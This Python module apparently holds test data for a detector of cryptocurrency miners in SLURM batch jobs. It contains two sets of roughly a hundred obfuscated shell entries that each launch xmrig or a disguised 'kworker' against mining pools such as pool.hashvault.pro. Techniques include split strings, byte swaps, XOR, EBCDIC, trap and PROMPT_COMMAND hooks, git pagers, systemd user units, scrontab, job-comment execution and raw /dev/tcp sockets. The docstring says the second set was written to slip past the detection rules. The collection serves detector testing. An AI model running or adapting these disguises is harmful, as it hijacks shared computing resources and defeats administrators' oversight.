"""Miners that a script hides in its own text, written by somebody who had the rules at hand, in two sets.

The first set was used to find what the rules did not see; the second was written after that, measured once, and then
kept. In each, the command, the pool's address or their pieces stand in the script itself.
"""

import re

__all__ = ["FIRST", "SECOND", "entries", "script"]

_HEADER = (
    "#!/bin/bash\n#SBATCH --job-name=relax\n#SBATCH --ntasks=32\n#SBATCH --time=12:00:00\nmodule load gcc\n"
)

_FIRST = r"""
## fish, joined
fish -c 'set a ./kwor; set b ker; set h stratum+tc; set i p://pool.support; eval $a$b -o $h$i"xmr.com:3333" -u w1'
## fish, string replace
fish -c 'string replace -a _ "" "x_m_r_i_g -o pool.hash_vault.pro:443 -u w1" | source'
## fish, of a document
cat > step.fish <<'E'
set -l p (string join "" xm rig)
set -l q (string join "" pool. hash vault .pro:443)
$p -o $q -u w1
E
fish step.fish
## zsh, by flags
zsh -c 'a=(x m r i g); b=(pool. hashv ault.pro :443); ${(j::)a} -o ${(j::)b} -u w1'
## zsh, =() and words turned around
zsh -c 'x="girmx"; for ((i=5;i>0;i--)); do n+=${x[i]}; done; =$n -o ${:-pool.hashv}ault.pro:443'
## zsh, uppercase flag
zsh -c 'c="XMRIG -O POOL.HASHVAULT.PRO:443"; eval ${(L)c}'
## tcsh, joined
tcsh -f -c 'set a=xm; set b=rig; set c=pool.hash; set d=vault.pro:443; $a$b -o $c$d -u w1'
## csh, by a modifier
csh -f <<'E'
set c = "xm_rig -o pool.hash_vault.pro:443 -u w1"
set d = `echo "$c" | sed s/_//g`
$d
E
## ksh, by name reference
ksh -c 'typeset -n r=q; q=xmr; p=ig; o=pool.hashv; ${r}${p} -o ${o}ault.pro:443 -u w1'
## rc
rc -c 'a=xm; b=rig; h=pool.hash^vault.pro:443; $a^$b -o $h -u w1'
## nushell
nu -c 'let p = (["xm" "rig"] | str join); let u = (["pool." "hash" "vault.pro:443"] | str join); ^$p -o $u -u w1'
## elvish
elvish -c 'var p = (str:join "" [xm rig]); (external $p) -o pool.hash'vault.pro:443 -u w1'
## xonsh
xonsh -c "p = 'xm' + 'rig'; u = 'pool.hash' + 'vault.pro:443'; @(p) -o @(u) -u w1"
## Perl, list form
perl -e '@a=("pool.hash","vault.pro:443"); exec {"x"."mrig"} "python", "-o", join("",@a), "-u", "w1"'
## Perl, quoted words
perl -e 'open(P, "-|", qw(./kworker -o), "strat"."um+tcp://pool.support"."xmr.com:3333") or die; print while <P>'
## Perl, backticks of a variable
perl <<'E'
my $p = sprintf("%s%s", "xm", "rig");
my $u = "pool.hash" . "vault.pro:443";
print `$p -o $u -u w1`;
E
## Ruby, interpolated
ruby -e 'a="xm"; b="rig"; u=%w[pool hash vault].values_at(0,1,2); spawn("#{a}#{b} -o #{u[0]}.#{u[1]}#{u[2]}.pro:443"); Process.wait'
## Ruby, percent x
ruby <<'E'
n = %w[g i r m x].reverse.join
%x(#{n} -o pool.#{"hash" "vault"}.pro:443 -u w1)
E
## Node, spawn of an array
node -e 'const a=["xm","rig"].join(""),u=`pool.${"hash"}${"vault"}.pro:443`;require("child_process").spawn(a,["-o",u,"-u","w1"],{stdio:"inherit"})'
## Node, a bracketed name
node <<'E'
const c = require("child_" + "process");
c["exe" + "cSync"](["xm" + "rig", "-o", "pool.hash" + "vault.pro:443"].join(" "));
E
## Lua, concatenated
lua <<'E'
local a, b = "xm", "rig"
local u = table.concat({"pool.hash", "vault.pro:443"})
io.popen(a .. b .. " -o " .. u .. " -u w1"):read("*a")
E
## awk, printed into sh
awk 'BEGIN { a="xm"; b="rig"; u="pool.hash" "vault.pro:443"; print a b " -o " u | "/bin/sh" }'
## awk, a command of variables
awk -v a=xm -v b=rig -v u=pool.hash -v w=vault.pro:443 'BEGIN { c = a b " -o " u w; while ((c | getline l) > 0) print l }'
## tclsh, appended
tclsh <<'E'
set c xm
append c rig
set u [join {pool hashvault pro:443} .]
exec {*}[list $c -o $u -u w1] >@stdout
E
## R, pasted
Rscript -e 'p <- paste0("xm","rig"); u <- paste(c("pool","hashvault","pro:443"), collapse="."); system2(p, c("-o", u, "-u", "w1"))'
## Julia, interpolated
julia -e 'p = "xm" * "rig"; u = "pool.hash" * "vault.pro:443"; run(`$p -o $u -u w1`)'
## PHP, a variable function
php -r '$f="sys"."tem"; $c=implode(" ",["xm"."rig","-o","pool.hash"."vault.pro:443"]); $f($c);'
## Guile
guile -c '(system (string-append "xm" "rig -o pool.hash" "vault.pro:443 -u w1"))'
## Emacs
emacs --batch --eval '(shell-command (concat "xm" "rig -o pool.hash" "vault.pro:443 -u w1"))'
## gdb, shell command
gdb -batch -ex 'python import os; os.system("xm"+"rig -o pool.hash"+"vault.pro:443")'
## vim, a built command
vim -es -c 'let c = "xm" . "rig -o pool.hash" . "vault.pro:443 -u w1"' -c 'call system(c)' -c q
## ed, a shell escape
printf '%s\n' '!xm\' 'rig -o pool.hash\' 'vault.pro:443' | ed -s
## m4, syscmd
m4 <<'E'
define(`A', `xm')define(`B', `rig')define(`C', `pool.hash')
syscmd(A`'B -o C`'vault.pro:443 -u w1)
E
## make, from standard input
make -f - <<'E'
A = xm
B = rig
H = pool.hash
all: ; $(A)$(B) -o $(H)vault.pro:443 -u w1
E
## make, subst
make -f - <<'E'
C := $(subst _,,x_m_r_i_g -o pool.hash_vault.pro:443 -u w1)
all:
	$(C)
E
## CMake
cat > s.cmake <<'E'
set(p xm)
string(APPEND p rig)
string(CONCAT u pool.hash vault.pro:443)
execute_process(COMMAND ${p} -o ${u} -u w1)
E
cmake -P s.cmake
## bc spells
n=$(echo '120;109;114;105;103' | bc | awk '{printf "%c", $1}'); u=pool.hash; $n -o ${u}vault.pro:443
## a coprocess that reads
coproc S { while read -r l; do $l; done; }
printf '%s%s -o %s%s -u w1\n' xm rig pool.hash vault.pro:443 >&"${S[1]}"
wait
## a trap of pieces
a=xm b=rig c=pool.hash d=vault.pro:443
trap "$a$b -o $c$d -u w1" EXIT
sleep 5
## a debug trap
c=(rig xm vault.pro:443 pool.hash)
trap '${c[1]}${c[0]} -o ${c[3]}${c[2]} -u w1; trap - DEBUG' DEBUG
true
## PROMPT_COMMAND of pieces
export A=xm B=rig U=pool.hash V=vault.pro:443
export PROMPT_COMMAND='$A$B -o $U$V -u w1'
bash -i < /dev/null
## BASH_ENV of pieces
printf '%s' xm rig ' -o pool.hash' vault.pro:443 > /tmp/.e
BASH_ENV=/tmp/.e bash -c :
## command_not_found_handle
command_not_found_handle() { "${1#go_}" -o "$2vault.pro:443" -u w1; }
go_xm""rig pool.hash
## exec -a with pieces
p=xm; q=rig; exec -a lmp "$p${q}" -o "pool.hash"'vault.pro:443' -u w1
## fc
set -o history
history -s 'xm''rig -o pool.hash''vault.pro:443 -u w1'
fc -s
## printf -v by index
printf -v "w[0]" %s xm; printf -v "w[1]" %s rig; printf -v "w[2]" %s pool.hash; printf -v "w[3]" %s vault.pro:443
"${w[0]}${w[1]}" -o "${w[2]}${w[3]}" -u w1
## a name reference in a loop
for n in a b; do declare -n r=$n; r+=x; done
k=xm l=rig m=pool.hash o=vault.pro:443
declare -n z=k y=l; exec "$z$y" -o "$m$o"
## arithmetic letters
s=; for v in 119 108 113 104 102; do s+=$(printf "\\x$(printf %x $((v+1)))"); done
"$s" -o pool.hash"vault.pro:443" -u w1
## split by IFS
IFS=+; c='xm+rig+pool.hash+vault.pro:443'; set -- $c; unset IFS; "$1$2" -o "$3$4" -u w1
## globs
mkdir -p xm/rig pool.hash/vault.pro:443; p=$(echo x?/ri*); u=$(echo pool.*/v*); "${p/\//}" -o "${u/\//}"
## braces
{xm,}rig -o pool.{hash,}vault.pro:443 -u w1
## lower case
C='XMRIG -O POOL.HASHVAULT.PRO:443 -U W1'; D=${C,,}; command $D
## substrings
t='hashvaultxmrigpool'; ${t:9:5} -o ${t:14:4}.${t:0:9}.pro:443 -u w1
## associative, by keys
declare -A d=([2]=rig [1]=xm [4]=vault.pro:443 [3]=pool.hash); c=; for k in 1 2; do c+=${d[$k]}; done; nohup $c -o ${d[3]}${d[4]} &
wait
## here-string to python
python3 <<< 'import os; a=["xm","rig"]; os.execvp("".join(a), ["w","-o","pool.hash%s.pro:443" % "vault"])'
## find -exec with pieces
A=xm; find . -maxdepth 0 -exec env ${A}rig -o pool.hash${Z}vault.pro:443 -u w1 \;
## env -S with pieces
env -S "x${Z}mrig -o pool.hash${Z}vault.pro:443 -u w1"
## script -c
s='xm rig pool.hash vault.pro:443'; set -- $s; script -qec "$1$2 -o $3$4 -u w1" /dev/null
## systemd-run of an array
o=(rig pool.hash xm vault.pro:443); systemd-run --user --wait -- "${o[2]}${o[0]}" -o "${o[1]}${o[3]}"
## at, joined
{ printf xm; printf 'rig -o pool.hash'; printf 'vault.pro:443\n'; } | at now
## tmux, keys
tmux new -d -s a; for k in x m r i g Space -o Space pool.hash vault.pro:443 Enter; do tmux send-keys -t a $k; done
## screen, stuff
screen -dmS a; screen -S a -X stuff 'xm'; screen -S a -X stuff 'rig -o pool.hash'; screen -S a -X stuff $'vault.pro:443\n'
## ssh to itself
a=xm; ssh localhost "${a}rig -o pool.hash'vault'.pro:443 -u w1"
## pdsh with an unset variable
pdsh -w n[1-4] "xm${q}rig -o pool.hash${q}vault.pro:443 -u w1"
## a container image of pieces
i=xm; apptainer run docker://metal3d/${i}rig -o pool.hash"vault".pro:443
## a conda package of pieces
p=xm; conda install -y -c conda-forge "${p}rig"; ${p}rig -c c.json
## npm package
n=mon; npx --yes ${n}ero-node-min${z}er start
## git clone of pieces
r=xm; git clone https://github.com/${r}rig/${r}rig.git b; cmake -S b -B c; make -C c; c/${r}rig -c c.json
## a unit of systemd
mkdir -p ~/.config/systemd/user; printf '[Service]\nExecStart=%s%s -o %s%s\n' /tmp/xm rig pool.hash vault.pro:443 > ~/.config/systemd/user/relax.service
systemctl --user start relax
## scrontab
scrontab - <<E
@hourly ${A:-xm}rig -o ${B:-pool.hash}vault.pro:443
E
## srun multi-prog of pieces
A=xm B=pool.hash; echo "0-3 ${A}rig -o ${B}vault.pro:443" > m.conf; srun -n4 --multi-prog m.conf
## task prolog
echo 'echo export X=xm; ${X}rig -o pool.hash${Y}vault.pro:443' > p.sh; chmod +x p.sh; srun --task-prolog=./p.sh true
## sbatch --wrap of pieces
A=xm; B=pool.hash; sbatch --wrap="${A}rig -o ${B}vault.pro:443 -u w1"
## exported for later
sbatch --export=ALL,P=xm,Q=rig,U=pool.hash,V=vault.pro:443 <<'E'
#!/bin/bash
$P$Q -o $U$V -u w1
E
## words picked by the array index
#SBATCH --array=0-1
w=(xm rig pool.hash vault.pro:443 true); i=$SLURM_ARRAY_TASK_ID; ${w[$i]}${w[$((i+1))]} -o ${w[$((i+2))]}${w[$((i+3))]}
## the job's comment
#SBATCH --comment="xmrig -o pool.hashvault.pro:443 -u w1"
bash -c "$(squeue -h -j $SLURM_JOB_ID -o %k)"
## the job's comment by scontrol
#SBATCH --comment=xmrig/-o/pool.hashvault.pro:443
c=$(scontrol show job $SLURM_JOB_ID | sed -n 's/.*Comment=//p'); ${c//\// }
## the job's name as an argument
#SBATCH --job-name=xmrig_-o_pool.hashvault.pro:443
IFS=_; set -f; set -- $SLURM_JOB_NAME; "$@"
## its own text by BASH_SOURCE
# xmrig -o pool.hashvault.pro:443 -u w1
mapfile -t l < "${BASH_SOURCE[0]}"; ${l[5]#\# }
## its own text by a copy
# xmrig -o pool.hashvault.pro:443 -u w1
cp "$0" t; ed -s t <<< $'g/^# xm/s/^# //p\nw u\nq'; sh u
## its own last line
f=$(readlink -f /proc/self/fd/255); l=$(tail -n1 $f); ${l:2}
exit
# xmrig -o pool.hashvault.pro:443 -u w1
"""

_SECOND = r"""
## swapped pairs of bytes
c=$(printf 'mxir go-p oo.lahhsavlu.trp:o44 3u-w ' | dd conv=swab 2>/dev/null); srun $c
## full-width letters
python3 -c 'import os,unicodedata as u; a=u.normalize("NFKC","ｘｍｒｉｇ"); os.execlp(a, a, "-c", "c.json")'
## letters by an alphabet
a=abcdefghijklmnopqrstuvwxyz; n=; for i in 23 12 17 8 6; do n=$n${a:i:1}; done; timeout 11h $n -c c.json
## an alphabet in Perl
perl -e '@a=("a".."z"); exec join("",@a[23,12,17,8,6]), "-c", "c.json"'
## sorted letters
printf '%s\n' '4 i' '1 x' '3 r' '2 m' '5 g' | sort -n | cut -d' ' -f2 | paste -sd '' > .n; $(<.n) -c c.json
## a matrix read by columns
awk '{for(i=1;i<=NF;i++) m[NR,i]=$i} END{for(i=1;i<=3;i++) for(j=1;j<=2;j++) printf "%s",m[j,i]; print " -c c.json"}' > run.sh <<'Z'
x r g
m i -
Z
sh run.sh
## doubled codes
for v in 240 218 228 210 206; do printf -v h '\\x%x' $((v/2)); printf -v l "$h"; p+=$l; done; nice $p -c c.json
## a key of several bytes
python3 - <<'Z'
import os
k = b"\x13\x37"
d = bytes([107, 90, 97, 94, 116, 23, 62, 84])
os.system(bytes(b ^ k[i % 2] for i, b in enumerate(d)).decode())
Z
## EBCDIC
printf '\247\224\231\211\207' | iconv -f IBM037 -t ASCII > n; read -r p < n; setsid "$p" -c c.json
## UTF-16 hex dump
xxd -r > r.sh <<'Z'
00000000: 786d 7269 6720 2d6f 2067 6174 652e 6578
00000010: 616d 706c 652e 6f72 673a 3333 3333 200a
Z
sh r.sh
## Morse
declare -A m=([-..-]=x [--]=m [.-.]=r [..]=i [--.]=g); for s in -..- -- .-. .. --.; do n+=${m[$s]}; done; command "$n" -c c.json
## PS4
PS4='$(./kworker -o gate.example.org:3333 -u w1)'; set -x; true
## an index that runs
declare -a a; i='a[$(./kworker -o gate.example.org:3333 -u w1)]'; (( i ))
## test -v runs
[[ -v 'a[$(xmrig -c c.json)]' ]]
## prompt transformation
x='$(xmrig -o gate.example.org:3333)'; : "${x@P}"
## a pager of git
git -c core.pager='xmrig -c c.json' log -1
## ProxyCommand
ssh -o ProxyCommand='sh -c "xmrig -c c.json"' nowhere
## tar to a command
tar cf - . | tar xf - --to-command='xmrig -c c.json'
## split --filter
yes | head -1 | split -n1 --filter='xmrig -c c.json'
## rsync's shell
rsync -e 'xmrig -c c.json #' x: .
## make's shell
make SHELL=xmrig .SHELLFLAGS='-c c.json --' all
## gnuplot
gnuplot -e 'a="xm"; b="rig -c c.json"; system(a.b)'
## octave
octave --eval 'system(["xm" "rig" " -c c.json"])'
## pari
echo 'system(concat("xm","rig -c c.json"))' | gp -q
## sqlite
sqlite3 :memory: ".shell x""mrig -c c.json"
## dc
dc -e '!xm""rig -c c.json'
## latex write18
echo '\immediate\write18{x\string mrig -c c.json}\bye' > a.tex; pdftex -shell-escape a.tex
## erlang
erl -noshell -eval 'os:cmd("xm" ++ "rig -c c.json"), halt().'
## prolog
swipl -g "atom_concat(xm,'rig -c c.json',C),shell(C)" -t halt
## haskell
runghc <<< 'import System.Process; main = callCommand (concat ["xm","rig -c c.json"])'
## fortran
cat > a.f90 <<'Z'
program a
call execute_command_line('xm'//'rig -c c.json')
end program
Z
gfortran a.f90 && ./a.out
## assembler
as -o a.o <<'Z'
.ascii "xm"
.asciz "rig -c c.json"
Z
strings a.o | head -1 | tr -d '\n' > r; sh r
## apptainer definition
cat > a.def <<'Z'
Bootstrap: library
From: alpine
%runscript
exec $(echo x)mrig -c c.json
Z
apptainer build a.sif a.def; ./a.sif
## docker compose
cat > compose.yml <<'Z'
services:
  solver:
    image: alpine
    command: ["x${E}mrig", "-c", "c.json"]
Z
podman-compose up
## package.json
cat > package.json <<'Z'
{"scripts": {"start": "A=xm && ${A}rig -c c.json"}}
Z
npm start
## ninja
printf 'rule r\n command = x$\n mrig -c c.json\nbuild all: r\n' > build.ninja; ninja
## ansible
ansible localhost -m shell -a 'x{{ "m" }}rig -c c.json'
## a patch
patch -o r.sh /dev/null <<'Z'
@@ -0,0 +1,1 @@
+./kworker -o gate.example.org:3333 -u w1
Z
sh r.sh
## standard error as a script
./"kworker -o gate.example.org:3333 -u w1" 2> e; sed 's/.*: line [0-9]*: //;s/: No such.*//' e | tail -1 > r; . ./r
## output of the job itself
#SBATCH -o relax.out
echo './kworker -o gate.example.org:3333 -u w1'
sleep 1; bash relax.out
## output of the job by SLURM's name
echo './kworker -o gate.example.org:3333 -u w1'
sleep 1; bash slurm-$SLURM_JOB_ID.out
## an administrator's comment
scontrol update job=$SLURM_JOB_ID comment="xmrig -c c.json"
scontrol show job $SLURM_JOB_ID | grep -oP 'Comment=\K.*' | while read -r c; do $c; done
## a job name as a program
sbatch -J 'xmrig' --wrap '$SLURM_JOB_NAME -c c.json'
## a file name as a command
touch 'xmrig -c c.json'; for f in xm*; do $f; done
## a folder's names
mkdir -p q/1x q/2m q/3r q/4i q/5g; n=; for d in q/*; do n+=${d: -1}; done; nohup $n -c c.json
## a variable's name
xmrig=1; for v in ${!xm*}; do $v -c c.json; done
## a function's name
xmrig_() { :; }; n=$(declare -F | awk '/_$/ {sub(/_$/,"",$3); print $3}'); $n -c c.json
## an extended attribute
setfattr -n user.c -v 'xmrig -c c.json' data.h5; getfattr --only-values -n user.c data.h5 | sh
## a symbolic link's target
ln -s 'xmrig -c c.json' l; $(readlink l)
## a process's name
(exec -a 'xmrig -c c.json' sleep 99 &) ; p=$(pgrep -f 'xm.*json'); $(tr '\0' ' ' < /proc/$p/cmdline | cut -d' ' -f1-3)
## an environment of another
env 'C=xmrig -c c.json' sleep 99 & tr '\0' '\n' < /proc/$!/environ | sed -n 's/^C=//p' | source /dev/stdin
## git notes
git commit --allow-empty -qm 'xmrig -c c.json'; git log -1 --format=%s > r; chmod +x r; ./r
## a calendar of words
n=; for w in xylophone mandolin recorder ipu gong; do n+=${w%${w#?}}; done; taskset -c 0 $n -c c.json
## a here-document of two columns
join -t, -o 1.2,2.2 <(sort <<< '1,xm') <(sort <<< '1,rig -c c.json') | tr -d , > r; bash ./r
## arguments in an option file of a compiler
echo '-o gate.example.org:3333 -u w1' > @a; xargs ./kworker < @a
## hosts in a list of servers
servers='gate.example.org gate2.example.org'; for s in $servers; do ./kworker -o $s:3333 -u w1 && break; done
## login by netrc words
./kworker --config <(printf '{"%s":[{"%s":"gate.example.org:3333","%s":"w1"}]}' pools url user)
## yaml by python
python3 -c 'import json; k=["po","ols"]; json.dump({"".join(k):[dict(url="gate.example.org:3333",user="w1")]}, open("config.json","w"))'; ./kworker
## a socket by bash
exec {f}<>/dev/tcp/gate.example.org/3333; printf '%s\n' '{"id":1,"method":"login","params":{"login":"w1"}}' >&$f
## a socket by openssl
printf '{"id":1,"meth%s":"lo%s","par%s":{"lo%s":"w1"}}\n' od gin ams gin | openssl s_client -quiet -connect gate.example.org:3333 | ./kworker
## cron by anacron words
printf '1\t0\trelax\t%s%s\n' ./kwor 'ker -o gate.example.org:3333 -u w1' > anacrontab; anacron -fn -t anacrontab
"""


def entries(text: str) -> dict[str, str]:
    """The scripts of a text by the headings before them."""
    parts = re.split(r"^## (.+)\n", text, flags=re.MULTILINE)[1:]
    return dict(zip(parts[::2], parts[1::2], strict=True))


FIRST = entries(_FIRST)
SECOND = entries(_SECOND)


def script(body: str) -> str:
    """The whole job script of one disguise."""
    return f"{_HEADER}{body}"
